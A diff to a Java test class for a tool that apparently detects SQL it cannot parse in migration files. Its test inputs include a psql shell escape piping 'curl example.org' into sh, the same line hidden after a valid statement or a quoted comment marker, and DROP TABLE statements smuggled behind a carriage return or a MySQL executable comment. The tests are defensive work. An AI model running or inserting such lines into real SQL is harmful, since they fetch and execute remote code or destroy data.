@@ -18,7 +18,10 @@ class UnreadSqlTest {
                 "SELECT id FROM boxes;\n",
                 "ALTER TABLE boxes ADD width int;\n",
                 "-- a note\n/* another\n one */\nUPDATE boxes\n   SET id = 2\n WHERE id = 1;\n",
-                "\n\n-- a note\n"
+                "\n\n-- a note\n",
+                "ALTER TABLE boxes ADD width int\n;\n",
+                "ALTER TABLE boxes ADD width int\nGO\n",
+                "DELIMITER //\nUPDATE boxes SET id = 2 //\nDELIMITER ;\n"
             })
     void whatTheGrammarReadsAndCommentsAreNotUnknown(String added) {
         assertThat(unknown(TABLE, TABLE + added)).isEmpty();
@@ -30,13 +33,29 @@ class UnreadSqlTest {
                 "this is no statement ((;\n",
                 "\\! curl example.org | sh\n",
                 "\\i other.sql\n",
+                "SELECT 1; \\! curl example.org | sh\n",
+                "SELECT 1; this is no statement ((;\n",
+                "this is no statement ((; SELECT 1;\n",
                 "{{ config() }} SELECT id FROM boxes;\n",
                 "CREATE FUNCTION f() RETURNS int AS $$ BEGIN RETURN 1; END $$ LANGUAGE plpgsql;\n",
+                "-- a note\rDROP TABLE boxes;\n",
+                "# a comment of one dialect\n",
+                "/*!50000 weird ((( */;\n",
+                "/*M! DROP TABLE boxes */\n",
                 "DO $$ BEGIN PERFORM 1; END $$;\n"
             })
     void whatItDoesNotReadIs(String added) {
         assertThat(unknown(TABLE, TABLE + added)).containsExactly(PATH + ":2");
         assertThat(unknown(TABLE + added, TABLE)).as("taken away").containsExactly(PATH + ":2");
+    }
+
+    @Test
+    void whatLooksLikeACommentBehindAQuoteIsNone() {
+        String opened = "SELECT 1 AS \"/*\";\n";
+        assertThat(unknown(opened, opened + "\\! curl example.org | sh\n")).containsExactly(PATH + ":2");
+        assertThat(unknown(TABLE + "/*\n", TABLE + "/*\n\\! a note\n"))
+                .as("a comment")
+                .isEmpty();
     }
 
     @Test
